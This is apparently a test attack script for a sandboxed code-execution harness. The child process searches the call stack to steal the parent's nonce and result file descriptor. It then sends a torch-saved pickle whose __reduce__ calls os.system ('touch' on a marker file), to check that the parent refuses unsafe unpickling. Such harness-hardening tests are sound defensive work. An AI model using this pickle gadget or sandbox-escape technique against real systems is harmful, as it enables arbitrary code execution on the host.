"""Attack: make the PARENT execute code: find the harness's nonce and result fd by frame introspection and send a
well-framed pickle whose loading would run os.system (a parent that unpickled without weights_only would run it)."""
import io
import os
import sys

import torch


class Boom:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def main(ctx):
    f = sys._getframe()
    while f is not None and (f.f_code.co_name != "main" or "nonce" not in f.f_locals):
        f = f.f_back
    nonce, fd = f.f_locals["nonce"], f.f_locals["fd"]
    buf = io.BytesIO()
    torch.save({"ok": True, "data": {"x": Boom(ctx["marker"])}}, buf)  # the frame format the parent expects
    body = buf.getvalue()
    os.write(fd, nonce + len(body).to_bytes(8, "big") + body)
    os._exit(0)
